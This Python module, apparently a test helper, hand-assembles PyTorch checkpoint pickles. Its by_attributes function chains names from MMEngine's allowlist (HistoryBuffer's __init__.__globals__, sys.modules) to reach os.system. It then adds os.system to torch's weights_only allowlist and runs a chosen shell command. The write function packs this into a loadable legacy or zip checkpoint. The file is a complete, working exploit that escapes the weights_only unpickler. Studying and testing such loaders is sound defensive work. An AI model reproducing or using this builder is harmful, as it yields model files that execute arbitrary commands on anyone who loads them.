# Copyright (c) hpml_mm contributors. Licensed under the Apache-2.0 licence.
"""Checkpoints whose pickle is written by hand, operation by operation."""

import io
import struct
import zipfile
from pathlib import Path

import torch

BUFFER = 'mmengine.logging.history_buffer.HistoryBuffer'
NO_ARGUMENTS = b')'


def name(dotted: str) -> bytes:
    """Operation that fetches what a dotted name means."""
    module, _, last = dotted.rpartition('.')
    return f'c{module}\n{last}\n'.encode()


def text(content: str) -> bytes:
    encoded = content.encode()
    return b'X' + struct.pack('<I', len(encoded)) + encoded


def call(function: bytes, *arguments: bytes) -> bytes:
    """Operations that call a function."""
    return function + b'(' + b''.join(arguments) + b'tR'


def attribute(owner: bytes, key: str) -> bytes:
    return call(name('builtins.getattr'), owner, text(key))


def lookup(mapping: bytes, key: str) -> bytes:
    """Operations that take an item of a dict: as an attribute of a buffer's own."""
    buffer = name(BUFFER) + NO_ARGUMENTS + b'\x81' + mapping + b'b'
    return attribute(buffer, key)


def by_attributes(command: str) -> bytes:
    """Run a command with nothing but names that MMEngine's list allows.

    From a method to its module's names, to ``sys.modules`` and ``os.system``, which is
    then put on the list of what torch may call.
    """
    names = attribute(attribute(name(BUFFER), '__init__'), '__globals__')
    sys = attribute(lookup(names, 'warnings'), 'sys')
    modules = attribute(sys, 'modules')
    system = attribute(lookup(modules, 'os'), 'system')
    unpickler = lookup(modules, 'torch._weights_only_unpickler')
    found = attribute(b'}' + text('x') + system + b's', 'copy')
    listed = attribute(unpickler, '__dict__')
    listed += text('_get_user_allowed_globals') + found + b's'
    return system + b'q\x63' + listed + call(b'h\x63', text(command))


def write(path: Path, program: bytes, legacy: bool = False) -> Path:
    """Write a checkpoint of torch whose content is what a program leaves."""
    whole = b'\x80\x02' + program + b'.'
    if legacy:
        torch.save({}, path, _use_new_zipfile_serialization=False)
        head = path.read_bytes()
        empty = head.rindex(b'\x80\x02}q\x00.')
        path.write_bytes(head[:empty] + whole + b'\x80\x02]q\x00.')
        return path
    template = io.BytesIO()
    torch.save({}, template)
    with zipfile.ZipFile(template) as old, zipfile.ZipFile(path, 'w') as new:
        for part in old.namelist():
            content = whole if part.endswith('/data.pkl') else old.read(part)
            new.writestr(part, content)
    return path
